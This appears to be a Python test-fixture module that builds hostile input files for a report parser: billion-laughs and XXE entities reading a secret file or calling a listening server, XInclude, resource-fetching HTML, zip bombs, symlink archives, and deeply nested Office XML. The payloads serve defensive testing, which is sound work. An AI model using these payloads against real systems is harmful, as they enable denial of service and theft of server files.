"""Files made to do harm, each small to send and large, endless or far-reaching to read.

`{url}` in them is a server that must never hear of it, `{secret}` a file that must never be read.
"""

from __future__ import annotations

import re
import struct
import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO

import docx
import openpyxl

Build = Callable[[str, str], bytes]
"""(address of the listening server, path of the secret file) -> bytes"""

INSTANCE = '<xbrl xmlns="http://www.xbrl.org/2003/instance">{}</xbrl>'
PAGE = """<html xmlns="http://www.w3.org/1999/xhtml" xmlns:ix="http://www.xbrl.org/2013/inlineXBRL">
<body><p>{}</p></body></html>"""
ROWS = b"Metric,Unit,2023,2024\nScope 1 emissions,tCO2e,90,100\nWater consumption,m3,7,8\n"
FORMATS = {".xbrl": INSTANCE, ".xhtml": PAGE}


# --- XML -------------------------------------------------------------------------------------------


def entities(declared: str, root: str = INSTANCE) -> Build:
    """A document whose text is the entity `a`, declared so."""

    def build(url: str, secret: str) -> bytes:
        told = declared.replace("{url}", url).replace("{secret}", secret)
        name = "html" if "<html" in root else "xbrl"
        return f'<?xml version="1.0"?><!DOCTYPE {name} {told}>{root.format("&a;")}'.encode()

    return build


LAUGHS = "".join(
    f'<!ENTITY {name} "{f"&{below};" * 10}">' for name, below in zip("abcdefgh", "bcdefghi", strict=True)
)
ENTITIES = {
    "billion_laughs": f'[{LAUGHS}<!ENTITY i "ha">]',
    "quadratic_blowup": f'[<!ENTITY i "{"x" * 100_000}"><!ENTITY a "{"&i;" * 10_000}">]',
    "external_file": '[<!ENTITY a SYSTEM "file://{secret}">]',
    "external_http": '[<!ENTITY a SYSTEM "{url}/entity">]',
    "parameter_entity": '[<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]',
    "remote_dtd": 'SYSTEM "{url}/x.dtd"',
}


def deep_xml(_url: str, _secret: str) -> bytes:
    return INSTANCE.format("<a>" * 500_000 + "</a>" * 500_000).encode()


def reaching_instance(url: str, secret: str) -> bytes:
    """What an instance may name and no reader may fetch."""
    link = 'xmlns:link="http://www.xbrl.org/2003/linkbase" xmlns:xlink="http://www.w3.org/1999/xlink"'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
    return INSTANCE.format(
        f'<link:schemaRef {link} xlink:type="simple" xlink:href="{url}/taxonomy.xsd"/>{include}'
    ).encode()


# --- HTML ------------------------------------------------------------------------------------------


def html(body: str) -> Build:
    def build(url: str, secret: str) -> bytes:
        told = body.replace("{url}", url).replace("{secret}", secret)
        return f"<!doctype html><html><body>{told}</body></html>".encode()

    return build


HTML_TABLE = (
    "<table><tr><th>Metric<th>Unit<th>2024<th>2023<tr><td>Scope 1 emissions<td>tCO2e<td>100<td>90</table>"
)
REACHING_PAGE = (
    '<base href="{url}/"><link rel=stylesheet href="{url}/s.css"><script src="{url}/s.js"></script>'
    '<img src="{url}/i.png"><iframe src="file://{secret}"></iframe><object data="{url}/o"></object>'
    '<meta http-equiv=refresh content="0;url={url}/r"><table background="{url}/b">' + HTML_TABLE
)


# --- ZIP -------------------------------------------------------------------------------------------


def packed(members: Mapping[str, bytes], level: int = 9) -> bytes:
    whole = BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return whole.getvalue()


def flat_bomb(_url: str, _secret: str) -> bytes:
    return packed({"a.csv": ROWS, "zeros.txt": b"0" * (300 << 20)}, level=1)


def nested_bomb(_url: str, _secret: str) -> bytes:
    inner = packed({"zeros.txt": b"0" * (50 << 20)}, level=1)
    return packed({f"{number}.zip": inner for number in range(20)})


def many_members(_url: str, _secret: str) -> bytes:
    return packed({f"{number}.txt": b"" for number in range(20_000)})


def overlapping(_url: str, _secret: str) -> bytes:
    """Two names for the same bytes: a bomb of many such grows with the square of its size."""
    data = packed({"one.csv": ROWS, "two.csv": ROWS})
    second = data.rfind(b"PK\x01\x02")
    return data[: second + 42] + struct.pack("<I", 0) + data[second + 46 :]


def lying_size(_url: str, _secret: str) -> bytes:
    """A directory that says ten bytes where ten megabytes follow."""
    data = packed({"a.csv": ROWS + b"x" * (10 << 20)})
    entry = data.rfind(b"PK\x01\x02")
    return data[: entry + 24] + struct.pack("<I", 10) + data[entry + 28 :]


def total_size(_url: str, _secret: str) -> bytes:
    """Members that are each in bounds, and together are not."""
    data = packed({f"{number}.csv": ROWS for number in range(400)})
    four_megabytes = struct.pack("<I", 4 << 20)
    pieces = data.split(b"PK\x01\x02")
    return b"PK\x01\x02".join([pieces[0], *(p[:20] + four_megabytes + p[24:] for p in pieces[1:])])


def named(*names: str) -> Build:
    def build(_url: str, _secret: str) -> bytes:
        whole = BytesIO()
        with zipfile.ZipFile(whole, "w") as archive:
            for name in names:
                archive.writestr(zipfile.ZipInfo(name), ROWS)
        return whole.getvalue()

    return build


def encrypted(_url: str, _secret: str) -> bytes:
    data = bytearray(packed({"a.csv": ROWS}))
    data[6] |= 1
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def symlink(_url: str, secret: str) -> bytes:
    whole = BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        link = zipfile.ZipInfo("a.csv")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, secret)
    return whole.getvalue()


# --- Office ----------------------------------------------------------------------------------------


def word() -> bytes:
    whole = BytesIO()
    document = docx.Document()
    document.add_paragraph("Riverbend Ltd ESG Report 2024")
    document.save(whole)
    return whole.getvalue()


def workbook() -> bytes:
    whole, book = BytesIO(), openpyxl.Workbook()
    for row in ROWS.decode().splitlines():
        book.active.append([int(cell) if cell.isdigit() else cell for cell in row.split(",")])
    book.save(whole)
    return whole.getvalue()


def part(package: Callable[[], bytes], name: str, pattern: str, to: str) -> Build:
    """A sound file of which one part is changed, or added where it has none of that name."""

    def build(url: str, secret: str) -> bytes:
        told, whole = to.replace("{url}", url).replace("{secret}", secret), BytesIO()
        with (
            zipfile.ZipFile(BytesIO(package())) as old,
            zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as new,
        ):
            for each in old.namelist():
                content = old.read(each)
                if each == name:
                    content = re.sub(pattern, lambda _: told, content.decode(), count=1).encode()
                new.writestr(each, content)
            if name not in old.namelist():
                new.writestr(name, told)
        return whole.getvalue()

    return build


W_BODY = "<w:body>"
DEEP_TABLES = W_BODY + "<w:tbl><w:tr><w:tc>" * 5_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5_000
DEEP_TAGS = W_BODY + "<w:p>" + "<w:smartTag>" * 1_500 + "</w:smartTag>" * 1_500 + "</w:p>"
BOMB_TEXT = "<w:p><w:r><w:t>" + "0" * (64 << 20) + "</w:t></w:r></w:p>"
LINK = '<Relationship Id="rX" Type="http://x/attachedTemplate" Target="{url}/t.dotm" TargetMode="External"/>'
STRINGS = "<sst><si><t>" + "0" * (64 << 20) + "</t></si></sst>"
OIM_JSON = b'{"documentInfo": {"documentType": "https://xbrl.org/2021/xbrl-json"}, "facts": '
SHEET = "xl/worksheets/sheet1.xml"


def spreadsheet_xml(repeated: str) -> Build:
    """An ODS whose one cell claims to stand in every cell."""

    def build(_url: str, _secret: str) -> bytes:
        names = ["office", "table", "text"]
        spaces = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in names)
        content = (
            f'<office:document-content {spaces} office:version="1.2"><office:body><office:spreadsheet>'
            f'<table:table table:name="A"><table:table-row table:number-rows-repeated="{repeated}">'
            f'<table:table-cell office:value-type="string" table:number-columns-repeated="{repeated}">'
            "<text:p>9</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
            "</office:body></office:document-content>"
        )
        whole = BytesIO()
        with zipfile.ZipFile(whole, "w") as archive:
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            archive.writestr("content.xml", content)
        return whole.getvalue()

    return build


# --- text ------------------------------------------------------------------------------------------


def plain(data: Callable[[], bytes]) -> Build:
    return lambda _url, _secret: data()
